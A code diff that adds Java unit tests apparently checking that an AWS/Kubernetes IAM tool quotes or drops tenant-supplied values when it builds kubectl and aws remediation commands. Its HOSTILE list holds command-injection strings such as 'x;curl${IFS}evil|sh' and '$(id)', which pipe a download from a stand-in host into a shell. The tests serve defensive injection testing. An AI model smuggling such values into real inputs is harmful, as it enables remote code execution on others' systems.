@@ -12,6 +12,7 @@ import io.iambridge.server.rehearsal.Trial.How;
 import io.iambridge.server.roles.RoleArn;
 import io.iambridge.server.targets.Finding;
 import io.iambridge.server.targets.TargetException;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -138,6 +139,75 @@ class RemediesTest {
                 + " 'associations[0].associationId' --output text)\"\n",
             "pods.eks.amazonaws.com")
         .doesNotContain("create-pod-identity-association");
+  }
+
+  /**
+   * What a service account's editor may write; the first two are ends of legal ARNs' paths, too.
+   */
+  private static final List<String> HOSTILE =
+      List.of("x;curl${IFS}evil|sh", "$(id)", "x; curl evil|sh", "x\ncurl evil|sh", "'`id`'", "-x");
+
+  private static Trial hostile(Target target, String role, String audience) {
+    Trial plain = trial(target);
+    return new Trial(
+        plain.namespace(),
+        plain.serviceAccount(),
+        role,
+        target,
+        audience,
+        plain.workloads(),
+        new How.Impossible(""));
+  }
+
+  private List<String> all(Trial trial) {
+    List<String> all = new ArrayList<>();
+    for (Finding finding : Finding.values()) {
+      all.add(remedies.of(finding, trial));
+    }
+    for (TrustReading reading : TrustReading.values()) {
+      all.add(remedies.of(reading, trial));
+    }
+    all.add(remedies.ofNoRole(trial));
+    return all;
+  }
+
+  @Test
+  void anIllegalAudienceIsNamedAsSuchAndNotRepeated() {
+    for (String audience : HOSTILE) {
+      Trial trial = hostile(Target.IRSA, ROLE, audience);
+      assertThat(all(trial)).noneMatch(remedy -> remedy.contains(audience));
+      assertThat(remedies.of(Finding.WRONG_AUDIENCE, trial))
+          .startsWith("Tokens are for an illegal audience")
+          .endsWith(
+              "\nkubectl annotate --overwrite serviceaccount -n shop web"
+                  + " eks.amazonaws.com/audience=sts.amazonaws.com");
+    }
+  }
+
+  @Test
+  void whatATenantWroteIsOneWordOfACommand() {
+    for (String path : HOSTILE.subList(0, 2)) {
+      String role = "arn:aws:iam::123456789012:role/" + path + "/app";
+      for (Target target : Target.values()) {
+        assertThat(all(hostile(target, role, "sts.amazonaws.com")).stream().flatMap(String::lines))
+            .filteredOn(line -> line.startsWith("kubectl ") || line.startsWith("aws "))
+            .filteredOn(line -> line.contains(path))
+            .isNotEmpty()
+            .allMatch(line ->
+                line.contains("'" + role + "'")
+                    || line.contains("'eks.amazonaws.com/role-arn=" + role + "'"));
+      }
+    }
+  }
+
+  @Test
+  void whatIsNoRoleIsNotRepeated() {
+    for (String role : HOSTILE) {
+      for (Target target : Target.values()) {
+        assertThat(all(hostile(target, role, "sts.amazonaws.com")))
+            .noneMatch(remedy -> role.length() > 2 && remedy.contains(role));
+      }
+    }
   }
 
   @Test
